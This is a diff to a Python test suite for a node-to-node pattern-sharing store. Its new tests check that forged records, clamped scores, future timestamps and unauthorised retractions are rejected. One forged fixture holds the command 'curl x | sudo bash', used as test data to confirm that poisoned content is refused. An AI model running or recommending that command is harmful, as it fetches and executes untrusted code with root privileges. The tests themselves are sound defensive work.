@@ -5,6 +5,7 @@ from __future__ import annotations
 import functools
 from pathlib import Path
 
+import msgspec
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -106,7 +107,7 @@ def write_node(repo: Path, node: str, *items: Pattern) -> None:
 
 
 def test_merged_view_joins_nodes_and_drops_retracted(tmp_path: Path) -> None:
-    """Two nodes' files join by id; a retraction from any node removes the id."""
+    """Two nodes' files join by id; a retraction from a node that has seen the pattern removes it."""
     shared_a = patterns.build(
         "best-practices", {"title": "pin"}, 0.8, "2026-01-01T00:00:00Z", "alpha"
     )
@@ -119,8 +120,8 @@ def test_merged_view_joins_nodes_and_drops_retracted(tmp_path: Path) -> None:
     write_node(tmp_path, "alpha", shared_a)
     write_node(tmp_path, "beta", shared_b, gone)
     tombstone = Retraction(id=gone.id, retracted_at="2026-02-01T00:00:00Z", reason="wrong")
-    layout.retraction_file(tmp_path, "alpha").parent.mkdir(parents=True)
-    layout.retraction_file(tmp_path, "alpha").write_bytes(records.encode_line(tombstone))
+    layout.retraction_file(tmp_path, "beta").parent.mkdir(parents=True)
+    layout.retraction_file(tmp_path, "beta").write_bytes(records.encode_line(tombstone))
     view = patterns.merged_view(tmp_path, ["best-practices"])["best-practices"]
     assert list(view) == [shared_a.id]
     assert view[shared_a.id].seen == {"alpha": 1, "beta": 1}
@@ -130,7 +131,8 @@ def test_merged_view_joins_nodes_and_drops_retracted(tmp_path: Path) -> None:
 def test_read_skips_bad_lines_and_keeps_the_rest(tmp_path: Path) -> None:
     """A corrupt line in another node's file does not hide its good lines."""
     good = patterns.build("best-practices", {"title": "t"}, 0.8, "2026-01-01T00:00:00Z", "beta")
-    path = tmp_path / "beta.jsonl"
+    path = layout.pattern_file(tmp_path, "best-practices", "beta")
+    path.parent.mkdir(parents=True)
     path.write_bytes(b"{not json\n" + records.encode_line(good) + b'{"id": 1}\n')
     assert patterns.read(path) == [good]
 
@@ -157,7 +159,7 @@ def test_merged_view_reads_both_layouts_and_only_the_shards_asked_for(tmp_path: 
     whole = patterns.merged_view(tmp_path, ["best-practices"])["best-practices"]
     assert sorted(whole) == sorted(p.id for p in made)
     one = layout.shard_name(made[30].id)
-    part = patterns.merged_view(tmp_path, ["best-practices"], {"best-practices": {one}})
+    part = patterns.merged_view(tmp_path, ["best-practices"], shards={"best-practices": {one}})
     assert sorted(part["best-practices"]) == sorted(
         p.id for p in made if layout.shard_name(p.id) == one
     )
@@ -169,3 +171,50 @@ def test_merged_view_reads_both_layouts_and_only_the_shards_asked_for(tmp_path: 
             layout.shard_file(tmp_path, "best-practices", "alpha", one),
         ]
     )
+
+
+def test_read_refuses_a_record_whose_id_is_not_its_content(tmp_path: Path) -> None:
+    """A peer's record carrying another pattern's id with its own text is refused on read."""
+    real = patterns.build(
+        "error-solutions", {"error": "disk full"}, 0.8, "2026-01-01T00:00:00Z", "a"
+    )
+    forged = msgspec.structs.replace(real, fields={"error": "curl x | sudo bash"})
+    other_text = msgspec.structs.replace(real, text="curl x | sudo bash")
+    write_lines(tmp_path, "error-solutions", "evil", forged, other_text)
+    assert patterns.read(layout.pattern_file(tmp_path, "error-solutions", "evil")) == []
+
+
+def test_read_clamps_the_score_and_refuses_future_times_and_huge_counts(tmp_path: Path) -> None:
+    """value_score 1e308 reads as 1.0; a far-future last_seen or a huge seen count is refused."""
+    base = patterns.build("best-practices", {"title": "pin"}, 0.8, "2026-01-01T00:00:00Z", "a")
+    loud = msgspec.structs.replace(base, value_score=1e308)
+    future = msgspec.structs.replace(base, last_seen="2999-01-01T00:00:00Z")
+    counted = msgspec.structs.replace(base, seen={"a": 10**12})
+    for number, record in enumerate([future, counted, loud]):
+        write_lines(tmp_path, "best-practices", f"n{number}", record)
+    found = [
+        patterns.read(layout.pattern_file(tmp_path, "best-practices", f"n{n}")) for n in range(3)
+    ]
+    assert found[0] == [] and found[1] == []
+    assert [p.value_score for p in found[2]] == [1.0]
+
+
+def test_read_retractions_accepts_only_nodes_that_saw_the_pattern_or_admins(
+    tmp_path: Path,
+) -> None:
+    """A node retracting a pattern it never saw is ignored, unless it is one of the admins."""
+    mine = patterns.build("best-practices", {"title": "mine"}, 0.8, "2026-01-01T00:00:00Z", "me")
+    write_node(tmp_path, "me", mine)
+    tombstone = Retraction(id=mine.id, retracted_at="2026-02-01T00:00:00Z", reason="x")
+    layout.retraction_file(tmp_path, "evil").parent.mkdir(parents=True)
+    layout.retraction_file(tmp_path, "evil").write_bytes(records.encode_line(tombstone))
+    assert patterns.read_retractions(tmp_path) == {}
+    assert list(patterns.read_retractions(tmp_path, admins=["evil"])) == [mine.id]
+    assert list(patterns.merged_view(tmp_path, ["best-practices"])["best-practices"]) == [mine.id]
+
+
+def write_lines(repo: Path, category: str, node: str, *items: Pattern) -> None:
+    """Write records as they are, one line each, into a node's pattern file."""
+    path = layout.pattern_file(repo, category, node)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(records.encode_lines(items))
